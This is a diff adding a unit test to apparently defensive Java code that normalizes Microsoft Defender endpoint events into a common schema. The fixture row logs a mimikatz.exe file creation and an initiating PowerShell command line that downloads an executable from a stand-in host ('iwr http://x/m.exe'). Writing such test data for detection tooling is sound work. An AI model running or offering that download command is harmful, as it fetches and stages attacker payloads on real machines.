@@ -106,11 +106,33 @@ class DefenderMapperTest {
   }
 
   @Test
+  void otherRowsNameTheirInitiatingProcessAndKeepTheirColumns() {
+    Event e = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:00Z", "DeviceId", "d1a2", "DeviceName", "ws1",
+        "ActionType", "FileCreated", "FileName", "mimikatz.exe", "FolderPath", "C:\\Users\\alice\\mimikatz.exe",
+        "InitiatingProcessFileName", "powershell.exe",
+        "InitiatingProcessFolderPath", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        "InitiatingProcessCommandLine", "powershell -c iwr http://x/m.exe -o m.exe", "InitiatingProcessId", 77L,
+        "InitiatingProcessCreationTime", "2024-05-01T09:59:00Z", "InitiatingProcessAccountName", "alice"));
+    assertEquals("FileCreated", e.string(Field.EVENT_ACTION));
+    assertNull(e.get(Field.EVENT_CATEGORY));
+    assertEquals("powershell.exe", e.string(Field.PROCESS_NAME));
+    assertEquals("powershell -c iwr http://x/m.exe -o m.exe", e.string(Field.PROCESS_COMMAND_LINE));
+    assertEquals(77L, e.number(Field.PROCESS_PID));
+    assertEquals("alice", e.string(Field.USER_NAME));
+    assertEquals("d1a2|77|2024-05-01T09:59:00.0000000Z", e.string(Field.PROCESS_ENTITY_ID));
+    assertEquals("windows", e.string(Field.HOST_OS_TYPE));
+    // the file is the row's own, not a process's
+    assertTrue(NormalizerTest.hasRaw(e, "FileName", "mimikatz.exe"));
+    assertTrue(NormalizerTest.hasRaw(e, "FolderPath", "C:\\Users\\alice\\mimikatz.exe"));
+  }
+
+  @Test
   void otherActionsKeepTheirTimeDeviceAndColumns() {
     Event e = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:00Z", "DeviceName", "ws1",
         "ActionType", "AntivirusDetection", "FileName", "mimikatz.exe"));
     assertEquals("AntivirusDetection", e.string(Field.EVENT_ACTION));
     assertNull(e.get(Field.PROCESS_NAME));
+    assertNull(e.get(Field.PROCESS_ENTITY_ID));
     assertNull(e.get(Field.EVENT_CATEGORY));
     assertTrue(NormalizerTest.hasRaw(e, "FileName", "mimikatz.exe"));
   }
